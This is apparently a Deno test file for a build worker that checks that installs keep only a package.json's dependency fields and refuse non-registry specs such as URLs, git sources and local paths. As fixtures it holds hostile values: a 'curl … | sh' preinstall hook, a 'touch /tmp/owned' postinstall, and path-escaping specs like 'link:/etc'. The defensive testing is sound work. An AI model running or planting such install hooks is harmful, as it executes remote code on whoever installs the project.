// What a build installs: the worker's install reads only the dependency fields of a project's package.json
// (never its scripts), and refuses every dependency that is not a package of the registry.
import assert from "node:assert/strict";
import { dependencyKey, RefusedDependency } from "../../build-worker/src/build.js";

const manifest = (extra: Record<string, unknown>) =>
  JSON.stringify({ name: "app", dependencies: { expo: "~57.0.26", react: "19.2.3" }, ...extra });

Deno.test("the install's manifest holds the dependencies and nothing a project could run", () => {
  const { manifest: installed } = dependencyKey(manifest({
    scripts: { preinstall: "curl https://example.com | sh", postinstall: "touch /tmp/owned" },
    workspaces: ["../.."],
    bin: { x: "x.js" },
  }));
  assert.deepEqual(Object.keys(installed).sort(), [
    "dependencies",
    "devDependencies",
    "name",
    "optionalDependencies",
    "overrides",
    "private",
    "version",
  ]);
  // Scripts do not change the dependency set, so they share its cached install.
  assert.equal(
    dependencyKey(manifest({ scripts: { postinstall: "x" } })).key,
    dependencyKey(manifest({})).key,
  );
});

Deno.test("registry versions, ranges, tags and aliases install; URLs, git, files and directories do not", () => {
  for (
    const spec of ["1.2.3", "^1.2.3", "~57.0.26", ">=1 <3", "latest", "next", "npm:left-pad@^1.3.0", "*"]
  ) {
    assert.doesNotThrow(() => dependencyKey(manifest({ devDependencies: { "left-pad": spec } })), spec);
  }
  for (
    const spec of [
      "https://packages.example/left-pad-1.3.0.tgz",
      "http://10.0.0.1/x.tgz",
      "git+https://github.com/someone/left-pad.git",
      "git+ssh://git@github.com/someone/left-pad.git",
      "github:someone/left-pad",
      "someone/left-pad",
      "gitlab:someone/left-pad",
      "file:../../outside",
      "../../outside",
      "link:/etc",
      "npm:left-pad@https://packages.example/x.tgz",
    ]
  ) {
    assert.throws(
      () => dependencyKey(manifest({ optionalDependencies: { "left-pad": spec } })),
      (err: unknown) =>
        err instanceof RefusedDependency && err.message.startsWith("optionalDependencies.left-pad"),
      spec,
    );
  }
  assert.throws(
    () => dependencyKey(manifest({ overrides: { react: { scheduler: "github:someone/scheduler" } } })),
    /^Error: overrides\.react\.scheduler is "github:someone\/scheduler"/,
  );
  assert.doesNotThrow(() =>
    dependencyKey(manifest({ overrides: { "react-dom": "$react", "foo@1": "2.0.0" } }))
  );
  assert.throws(() => dependencyKey(manifest({ dependencies: ["left-pad"] })), RefusedDependency);
});
